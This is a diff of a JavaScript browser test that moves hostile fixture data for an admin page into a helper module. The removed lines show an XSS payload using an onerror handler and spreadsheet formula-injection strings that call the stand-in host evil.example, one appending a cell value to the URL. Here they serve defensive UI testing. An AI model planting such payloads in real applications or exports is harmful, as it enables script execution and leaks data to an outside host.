@@ -11,7 +11,7 @@ import { join } from 'node:path';
 import { spawnSync } from 'node:child_process';
 import { fileURLToPath } from 'node:url';
 import { startAppSandbox } from './app-server.mjs';
-import { launch, settled, adminPage as openAdminPage, parseNum, cannotRun } from './helpers.mjs';
+import { launch, settled, adminPage as openAdminPage, parseNum, cannotRun, hostileSample, XSS_NAME, FORMULA_NAME, FORMULA_EMAIL } from './helpers.mjs';
 
 const skip = cannotRun();
 const ROOT = new URL('../../', import.meta.url);
@@ -20,21 +20,8 @@ const SHOTS = fileURLToPath(new URL('screenshots/', import.meta.url));
 const POLICY = readFileSync(new URL('samples/policy.json', ROOT), 'utf8');
 const TMP = mkdtempSync(join(tmpdir(), 'uc-browser-run-'));
 
-const XSS_NAME = '<img src=x onerror="window.__pwned=1">';
-const FORMULA_NAME = '=HYPERLINK("http://evil.example/","Click me")';
-const FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")@evil-<b>bold</b>.example';
-
-function hostileSnapshot() {
-  const snap = JSON.parse(readFileSync(new URL('samples/snapshot.json', ROOT), 'utf8'));
-  for (let i = 0; i < 3; i++) {
-    snap.users.push({
-      name: `mallory${i}`, displayName: i === 0 ? FORMULA_NAME : `${XSS_NAME} ${i}`, email: FORMULA_EMAIL, active: true,
-      groups: ['jira-software-users', 'contractors'], directory: 'Jira Internal Directory',
-      created: '2020-01-01T00:00:00Z', lastLogin: '2025-01-01T00:00:00Z',
-    });
-  }
-  return snap;
-}
+const hostileSnapshot = () =>
+  hostileSample({ displayName: (i) => (i === 0 ? FORMULA_NAME : `${XSS_NAME} ${i}`), groups: ['jira-software-users', 'contractors'] });
 
 let browser;
 let sb;
